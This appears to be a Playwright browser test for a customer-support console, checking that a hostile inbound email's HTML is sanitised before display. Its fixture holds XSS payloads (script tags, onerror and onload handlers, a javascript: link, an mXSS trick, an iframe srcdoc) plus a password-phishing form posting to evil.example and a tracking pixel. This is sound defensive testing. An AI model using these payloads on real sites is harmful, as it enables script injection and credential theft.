import { Readable } from 'node:stream'
import type { BrowserContext, Page } from 'playwright-core'
import { beforeAll, describe, expect, it } from 'vitest'
import { systemContext } from '../../server/src/auth/actor.js'
import { recordMessage } from '../../server/src/messaging/service.js'
import type { NewMessage } from '../../server/src/messaging/types.js'
import { startConsoleTest } from './browser.js'

const { env, m, base, browser, signIn, call: api } = await startConsoleTest()

// A hostile inbound body: each part would run script, load from elsewhere or dress up as the console if shown as is.
const hostile = `<p>Hello, my parcel never came.</p>
<script>window.__pwned = 'script'</script>
<img src="x" onerror="window.__pwned = 'onerror'" alt="broken">
<a id="track" href="javascript:window.__pwned='link'">Track my parcel</a>
<svg onload="window.__pwned='svg'"><circle r="4"></circle></svg>
<math><mtext><mglyph><style><img src=x onerror="window.__pwned='mxss'"></style></mglyph></mtext></math>
<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>
<form action="https://evil.example/steal"><input name="password" placeholder="Your password"><button>Log in</button></form>
<img src="https://tracker.example/pixel.gif" alt="Shop logo">
<a href="https://shop.example/orders/1001">Your order</a>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/x.png)">Cover</div>
<p class="mantine-Button-root" style="color: darkred">Thanks, Casey</p>`

let caseId = ''
const customer = { address: 'casey@example.com', name: 'Casey' }
const shop = { address: 'support@shop.example', name: 'Shop' }

async function record(input: Partial<NewMessage> & Pick<NewMessage, 'direction' | 'status' | 'text'>) {
  return env.ctx.db.transaction().execute(async (trx) =>
    recordMessage(
      trx,
      systemContext(m.id),
      {
        caseId,
        channel: 'email',
        visibility: 'public',
        authorType: input.direction === 'in' ? 'customer' : 'system',
        from: input.direction === 'in' ? customer : shop,
        to: input.direction === 'in' ? [shop] : [customer],
        cc: [],
        subject: 'Where is my parcel?',
        ...input,
      },
      new Date(),
    ),
  )
}

// Every request the pages make stays on the test's server: anything else is recorded and refused.
async function watched(viewport = { width: 1280, height: 900 }) {
  const context = await browser.newContext({ viewport })
  const elsewhere: string[] = []
  await context.route(
    (url) => url.hostname !== '127.0.0.1',
    (route) => {
      elsewhere.push(route.request().url())
      return route.abort()
    },
  )
  const page = await context.newPage()
  const refused: string[] = []
  page.on('console', (msg) => {
    if (/Content Security Policy/i.test(msg.text())) refused.push(msg.text())
  })
  return { context, page, refused, elsewhere }
}

/** A blank page without the console's CSP, to see what HTML does when nothing else protects it. */
async function unprotected(context: BrowserContext, html: string): Promise<Page> {
  const page = await context.newPage()
  await page.setContent('<main id="box"></main>')
  await page.evaluate((h) => {
    document.getElementById('box')!.innerHTML = h
  }, html)
  // Give every image its load or error event before reading the flag (an event, not a sleep).
  await page.waitForFunction(() => Array.from(document.images).every((i) => i.complete), null, { timeout: 30_000 })
  await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r))))
  return page
}

beforeAll(async () => {
  const res = await api('POST', '/cases', { case_type: 'other', subject: 'Where is my parcel?' })
  caseId = res.json().id
  const raw = await env.ctx.blobs.put(Readable.from([Buffer.from(`Subject: Where is my parcel?\r\n\r\n${hostile}`)]), {
    merchantId: m.id,
    maxBytes: 1_000_000,
  })
  await record({
    direction: 'in',
    status: 'received',
    text: 'Hello, my parcel never came.',
    html: hostile,
    rawBlobKey: raw.key,
  })
})

describe('the conversation in Chromium', () => {
  it('shows a hostile inbound HTML body with no script run, nothing refused and nothing fetched from elsewhere', async () => {
    const { context, page, refused, elsewhere } = await watched()
    await signIn(page)
    await page.goto(`${base}/cases/${caseId}`)
    const body = page.getByRole('document', { name: 'Message: Where is my parcel?' })
    await body.getByText('Hello, my parcel never came.').waitFor({ timeout: 30_000 })
    await body.getByText('Thanks, Casey').waitFor()

    // What the page holds: no script, handler, frame, form, SVG or MathML; no javascript: link; no console classes.
    const found = await body.evaluate((el) => ({
      scripts: el.querySelectorAll('script, iframe, form, input, button, svg, math, style, object, embed').length,
      handlers: Array.from(el.querySelectorAll('*')).flatMap((n) =>
        Array.from(n.attributes)
          .map((a) => a.name)
          .filter((a) => a.startsWith('on')),
      ),
      hrefs: Array.from(el.querySelectorAll('a')).map((a) => a.getAttribute('href')),
      classes: el.querySelectorAll('[class]').length,
      styles: Array.from(el.querySelectorAll('[style]')).map((n) => n.getAttribute('style')),
      images: Array.from(el.querySelectorAll('img')).map((i) => i.getAttribute('src')),
    }))
    expect(found.scripts).toBe(0)
    expect(found.handlers).toEqual([])
    expect(found.hrefs.filter((h) => h && !/^https:\/\//.test(h))).toEqual([])
    expect(found.classes).toBe(0)
    expect(found.styles).toEqual(['color: darkred'])
    expect(found.images.filter((src) => src !== null)).toEqual([])

    // Links open in a new tab without the console as opener or referrer; the javascript: one is text.
    const order = body.getByRole('link', { name: 'Your order' })
    expect(await order.getAttribute('target')).toBe('_blank')
    expect(await order.getAttribute('rel')).toBe('noopener noreferrer')
    await body.getByText('Track my parcel').click()
    // The remote image is a link to open on purpose, never loaded.
    const image = body.getByRole('link', { name: '[Image: Shop logo]' })
    expect(await image.getAttribute('href')).toBe('https://tracker.example/pixel.gif')
    await page.getByText('A remote image was not loaded').waitFor()

    expect(await page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined()
    expect(refused).toEqual([])
    expect(elsewhere).toEqual([])

    // The same sanitised nodes on a page with no CSP at all still run nothing; the raw body there does (the control).
    const clean = await body.evaluate((el) => el.innerHTML)
    const safe = await unprotected(context, clean)
    await safe.getByText('Track my parcel').click()
    expect(await safe.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined()
    const control = await unprotected(context, hostile)
    await control.waitForFunction(() => (window as { __pwned?: string }).__pwned, null, { timeout: 30_000 })
    await context.close()
  })
})
